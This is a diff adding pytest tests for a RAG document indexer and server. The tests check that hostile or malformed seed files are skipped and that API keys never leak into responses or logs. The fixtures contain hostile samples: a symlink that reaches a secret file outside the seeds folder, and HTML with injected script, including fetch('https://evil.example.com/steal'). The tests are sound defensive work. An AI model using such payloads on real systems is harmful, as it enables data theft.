@@ -1,0 +1,85 @@
+"""A seeds folder of hostile and broken files: the build finishes, every skip has a reason, and
+nothing outside the folder is read. Secrets never show in logs, errors or responses."""
+
+import json
+import os
+import subprocess
+import sys
+
+import httpx
+
+from tests.conftest import ARTIFACTS_DIR, SEED_QUESTION, make_settings, rag_env
+from tests.server_process import running_server
+
+
+def test_hostile_seeds_folder(tmp_path, seeds_copy):
+    seeds = seeds_copy
+    (seeds / "binary.txt").write_bytes(os.urandom(4096) + b"\x00")
+    (seeds / "empty.md").write_text("")
+    with open(seeds / "huge.txt", "wb") as fh:  # 50 MB of text
+        line = b"All work and no play makes a very long article indeed. " * 20 + b"\n"
+        for _ in range((50 * 1024 * 1024) // len(line) + 1):
+            fh.write(line)
+    (seeds / "latin1.txt").write_bytes("Titre\n\nCaf\xe9 cr\xe8me.".encode("latin-1"))
+    (seeds / "feed.jsonl").write_text(
+        json.dumps({"id": "ok-1", "title": "Ferry fares frozen",
+                    "text": "Ferry fares to the islands will stay frozen until 2027, the operator said."})
+        + "\n{broken\n[1, 2]\n")
+    (seeds / "copy.txt").write_bytes((seeds / "000_91fdc298d10704eb.txt").read_bytes())
+    secret = tmp_path / "secret.txt"
+    secret.write_text("Secret plans\n\nThe password for the vault is hunter2-TOPSECRET.\n")
+    (seeds / "sneaky.txt").symlink_to(secret)
+    (seeds / "page.html").write_text(
+        "<html><head><title>Bridge reopens</title><script>document.write('SCRIPT-PAYLOAD')</script></head>"
+        "<body><iframe src='https://evil.example.com/x'>IFRAME-PAYLOAD</iframe><article><h1>Bridge reopens</h1>"
+        "<p>The Kettle Street bridge reopened to traffic on Friday after eight months of repairs costing "
+        "12 million pounds, the council said.</p><p>Cyclists get a separate lane for the first time.</p>"
+        "</article><script>fetch('https://evil.example.com/steal')</script></body></html>")
+    settings = make_settings(tmp_path, seeds_dir=seeds)
+    env = rag_env(settings)
+    proc = subprocess.run([sys.executable, "-m", "rag.cli", "index"], env=env, capture_output=True,
+                          text=True, timeout=600)
+    assert proc.returncode == 0, proc.stderr
+    out = proc.stdout
+    for name, reason in [("binary.txt", "binary"), ("empty.md", "empty file"), ("huge.txt", "too large"),
+                         ("latin1.txt", "UTF-8"), ("feed.jsonl:2", "malformed JSON"),
+                         ("feed.jsonl:3", "expected a JSON object"), ("sneaky.txt", "outside the seeds folder")]:
+        assert f"skipped {name}: " in out and reason in out.split(f"skipped {name}: ")[1].splitlines()[0], name
+    assert "same text as" in out  # the duplicate under another name
+    assert out.strip().splitlines()[-1].startswith("3 added")  # seed, feed record, HTML page
+
+    from rag.store import Store
+
+    store = Store(settings)
+    got = store.collection(store.current().generation).get(include=["documents"])
+    text = "\n".join(got["documents"])
+    assert "TOPSECRET" not in text and "SCRIPT-PAYLOAD" not in text and "IFRAME-PAYLOAD" not in text
+    assert "evil.example.com" not in text
+    assert "12 million pounds" in text
+
+
+def test_secrets_never_appear_in_responses_errors_or_logs(seed_settings, llm, tmp_path):
+    api_key, llm_key = "rag-key-Zq8x7Secret", "sk-llm-Zq8x7Secret"
+    llm.status = 401  # the LLM server rejects the key: the error must not echo it
+    with running_server(seed_settings, RAG_API_KEY=api_key, OPENAI_API_KEY=llm_key,
+                        OPENAI_BASE_URL=llm.base_url, RAG_LLM_MODEL="scripted") as base:
+        replies = [
+            httpx.post(f"{base}/api/answer", json={"question": SEED_QUESTION},
+                       headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
+            httpx.post(f"{base}/api/answer", json={"question": SEED_QUESTION},
+                       headers={"Authorization": "Bearer wrong-key"}, timeout=60),
+            httpx.post(f"{base}/api/answer?stream=true", json={"question": SEED_QUESTION},
+                       headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
+            httpx.get(f"{base}/api/index", headers={"Authorization": f"Bearer {api_key}"}, timeout=60),
+            httpx.get(f"{base}/openapi.json", timeout=60),
+            httpx.get(f"{base}/healthz", timeout=60),
+        ]
+        body = replies[0].json()
+        assert body["mode"] == "extractive-fallback"  # the LLM failed, and said why
+        assert llm.requests and llm.requests[-1]  # the key was really sent to the LLM server
+    seen = "\n".join(r.text for r in replies)
+    logs = (ARTIFACTS_DIR() / f"server-{base.rsplit(':', 1)[1]}.log").read_text(errors="replace")
+    assert "rag.service" in logs or "WARNING" in logs  # the failure was logged, without the keys
+    for secret in (api_key, llm_key, "Zq8x7Secret"):
+        assert secret not in seen
+        assert secret not in logs
